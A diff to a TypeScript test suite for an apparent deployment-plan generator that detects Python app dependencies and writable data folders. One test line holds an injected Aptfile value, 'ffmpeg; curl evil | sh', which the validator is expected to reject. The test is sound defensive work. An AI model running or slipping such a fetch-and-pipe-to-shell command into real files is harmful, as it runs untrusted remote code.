@@ -414,6 +414,12 @@ describe("detection", () => {
                 );
             });
 
+            it("GIVEN the script's lock naming a path source (the block's [tool.uv.sources]) THEN its folder is copied with the lock", () => {
+                const lock = 'version = 1\nrequires-python = ">=3.11"\n\n[manifest]\nrequirements = [{ name = "slugkit", directory = "vendor/slugkit" }]\n\n[[package]]\nname = "slugkit"\nversion = "0.1.0"\nsource = { directory = "vendor/slugkit" }\n';
+                const r = synthesize(apps.make({ "app.py": block('dependencies = ["slugkit", "flask"]\n\n[tool.uv.sources]\nslugkit = { path = "vendor/slugkit" }'), "app.py.lock": lock, "vendor/slugkit/pyproject.toml": '[project]\nname = "slugkit"\nversion = "0.1.0"\n' }));
+                assert.deepEqual(r.plan.manifests, ["app.py.lock", "vendor/slugkit/"]);
+            });
+
             it("GIVEN a requirements.txt beside a script block THEN requirements.txt decides", () => {
                 assert.equal(synthesize(apps.make({ "app.py": block('dependencies = ["flask"]'), "requirements.txt": "flask\n" })).plan.manifest, "requirements.txt");
             });
@@ -998,9 +1004,10 @@ describe("detection", () => {
         it("GIVEN folders the code makes under a cache folder, or named for a cache THEN scratch; others data", () => {
             const kinds = (dirs: string[]) =>
                 synthesize(apps.make({ "app.py": `import os\nfrom flask import Flask\n${dirs.map((d) => `os.makedirs(${JSON.stringify(d)}, exist_ok=True)\n`).join("")}app = Flask(__name__)\n`, "requirements.txt": "flask\n" })).plan.writablePaths.map((w) => [w.path, w.kind]);
-            assert.deepEqual(kinds(["cache/tpl", "pagecache", "thumb_cache", "data/files", "logs/old"]), [
+            assert.deepEqual(kinds(["cache/tpl", "pagecache", "thumb_cache", "data/files", "logs/old", "geocaches"]), [
                 ["/app/cache/tpl", "scratch"],
                 ["/app/data/files", "data"],
+                ["/app/geocaches", "data"],
                 ["/app/logs/old", "scratch"],
                 ["/app/pagecache", "scratch"],
                 ["/app/thumb_cache", "scratch"],
@@ -1014,6 +1021,10 @@ describe("detection", () => {
             assert.deepEqual(paths(render("    disk:\n      name: data\n      mountPath: /var/data\n      sizeGB: 1\n", hf)), [["/var/data", "data", "render.yaml's disk mountPath"]]);
             assert.deepEqual(paths(render("", hf)), [["/var/data/hf", "scratch", "render.yaml envVars sets HF_HOME, Hugging Face's cache (downloaded models and datasets), to /var/data/hf"]]);
             assert.deepEqual(paths(render("", "      - key: NLTK_DATA\n        value: nltk_data\n")), [["/app/nltk_data", "scratch", "render.yaml envVars sets NLTK_DATA, NLTK's data (nltk.download() writes there), to nltk_data"]]);
+            // A disk in Render's checkout folder is the same folder of the app here.
+            assert.deepEqual(paths(render("    disk:\n      name: data\n      mountPath: /opt/render/project/src/storage\n", "")), [
+                ["/app/storage", "data", "render.yaml's disk mountPath /opt/render/project/src/storage (Render's checkout folder is the image's /app)"],
+            ]);
         });
         it("GIVEN FastHTML's `app, rt = fast_app()` from a star import THEN an ASGI fasthtml app; its database file is data, and its session key file unless secret_key= is given", () => {
             const code = (call: string) => `from fasthtml.common import *\n\ndb = database('data/todos.db')\n${call}\n\n@rt\ndef index():\n    return P('hi')\n`;
@@ -1026,6 +1037,12 @@ describe("detection", () => {
             ]);
             const keyed = synthesize(apps.make({ "main.py": code("app, rt = fast_app(secret_key=os.environ['SESSKEY'])"), "requirements.txt": "python-fasthtml\n", "data/.gitkeep": "" })).plan;
             assert.deepEqual(keyed.writablePaths.map((w) => w.path), ["/app/data"]);
+            // fast_app's own database file, and a key read with no default, which may be None: the key file may still be written.
+            const tutorial = synthesize(apps.make({ "main.py": "import os\nfrom fasthtml.common import *\n\napp, rt, notes, Note = fast_app('data/fridge.db', secret_key=os.environ.get('SESSION_SECRET'), id=int, pk='id')\n", "requirements.txt": "python-fasthtml\n", "data/.gitkeep": "" })).plan;
+            assert.deepEqual(tutorial.writablePaths.map((w) => [w.path, w.kind, w.why]), [
+                ["/app/data", "data", "main.py: FastHTML's fast_app(data/fridge.db) opens its database there"],
+                ["/data", "data", "main.py: FastHTML's fast_app() when secret_key= (SESSION_SECRET) is unset writes its session key to .sesskey at import"],
+            ]);
             const direct = synthesize(apps.make({ "app.py": "from fasthtml import FastHTML\n\napplication = FastHTML(key_fname='keys/session.key')\n", "requirements.txt": "python-fasthtml\n" })).plan;
             assert.deepEqual(direct.entrypoint, { spec: "app:application", interface: "asgi", source: "app.py" });
             assert.deepEqual(direct.writablePaths.map((w) => [w.path, w.kind]), [["/app/keys", "data"]]);
@@ -1039,6 +1056,11 @@ describe("detection", () => {
                 () => plan("ffmpeg; curl evil | sh\n"),
                 (e: unknown) => e instanceof InputError && e.message === 'Aptfile line 1, "ffmpeg; curl evil | sh", is not a package name apt takes; fix the line (one package per line), or list packages with `aptRuntimePackages`.',
             );
+        });
+        it("GIVEN Sanic's attribute-style config (app.config.DATABASE = 'pins.db') read by aiosqlite.connect(app.config.DATABASE) THEN the database is linked into /data", () => {
+            const app = "import aiosqlite\nfrom sanic import Sanic, text\n\napp = Sanic('pins')\napp.config.DATABASE = 'pins.db'\n\n@app.before_server_start\nasync def open_db(app, _):\n    app.ctx.db = await aiosqlite.connect(app.config.DATABASE)\n\n@app.get('/')\nasync def index(request):\n    return text('ok')\n";
+            const paths = synthesize(apps.make({ "server.py": app, "requirements.txt": "sanic\naiosqlite\n" })).plan.writablePaths;
+            assert.deepEqual(paths, [{ path: "/data", kind: "data", why: "server.py: aiosqlite.connect(pins.db)", links: [{ from: "/app/pins.db", to: "/data/pins.db" }] }]);
         });
         it("GIVEN Litestar's FileStore(path=...) THEN its folder is a data folder holding sessions", () => {
             const app = "from pathlib import Path\nfrom litestar import Litestar\nfrom litestar.middleware.session.server_side import ServerSideSessionConfig\nfrom litestar.stores.file import FileStore\n\napp = Litestar(route_handlers=[], middleware=[ServerSideSessionConfig().middleware], stores={'sessions': FileStore(path=Path('session_data'))})\n";
